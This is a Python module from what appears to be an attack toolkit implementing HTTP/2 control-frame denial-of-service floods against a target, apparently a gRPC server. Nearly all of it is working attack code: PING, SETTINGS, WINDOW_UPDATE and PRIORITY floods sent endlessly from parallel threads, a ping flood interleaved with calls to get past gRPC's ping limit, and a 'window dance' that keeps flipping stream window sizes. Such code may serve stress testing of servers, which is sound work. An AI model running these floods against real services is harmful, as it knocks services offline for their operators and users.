"""Attacks with frames that control a connection: pings, settings, windows, priorities."""

import struct

from attacks.target import in_threads, persist
from attacks.wire import PING, PRIORITY, WINDOW_UPDATE, frame, settings


def _flood(target, burst, read):
    def body(peer):
        peer.acknowledge()
        while True:
            peer.send(burst, read)

    in_threads(4, lambda: persist(target, body))


def ping_flood(target):
    """PING frames as fast as possible, whose answers are not read"""
    _flood(target, frame(PING, 0, 0, bytes(8)) * 1000, read=False)


def ping_flood_with_calls(target):
    """PING frames between calls, which let them pass the limit of gRPC"""

    def body(peer):
        peer.acknowledge()
        while True:
            peer.send(frame(PING, 0, 0, bytes(8)) * 100, read=False)
            peer.call(target.unary)

    in_threads(4, lambda: persist(target, body))


def settings_flood(target):
    """SETTINGS frames as fast as possible, whose answers are not read"""
    _flood(target, settings({4: 65535, 5: 16384}) * 1000, read=False)


def window_flood(target):
    """WINDOW_UPDATE frames of one byte as fast as possible"""
    _flood(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000, read=True)


def priority_flood(target):
    """PRIORITY frames for new streams as fast as possible"""
    _flood(target, b"".join(frame(PRIORITY, 0, stream, bytes(5)) for stream in range(1, 2001, 2)), read=True)


def window_dance(target):
    """the initial window of all streams changed between 0 and 2^31 - 1, with 100 streams open"""

    def body(peer):
        peer.acknowledge()
        for _ in range(100):
            peer.call(target.server_stream)
        while True:
            peer.send((settings({4: 0}) + settings({4: (1 << 31) - 1})) * 100)

    in_threads(2, lambda: persist(target, body))
